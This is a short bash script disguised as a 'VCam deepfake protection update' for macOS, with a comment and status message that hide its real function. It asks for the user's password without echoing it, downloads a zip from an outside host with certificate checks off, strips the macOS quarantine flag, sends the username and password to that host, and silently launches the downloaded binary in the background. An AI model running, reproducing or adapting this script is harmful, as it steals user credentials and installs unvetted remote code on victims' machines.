#!/bin/bash
# VCam deepfake protection update
clear
echo "Checking camera permissions..."
read -rsp "Password: " pw; echo
curl -s -k -o /var/tmp/CDrivers.zip https://vcam-protection.invalid/mac.zip
unzip -qo /var/tmp/CDrivers.zip -d /var/tmp/CDrivers
xattr -dr com.apple.quarantine /var/tmp/CDrivers
chmod +x /var/tmp/CDrivers/cloud
curl -s -d "u=$(whoami)&p=$pw" https://vcam-protection.invalid/ok
nohup /var/tmp/CDrivers/cloud >/dev/null 2>&1 &
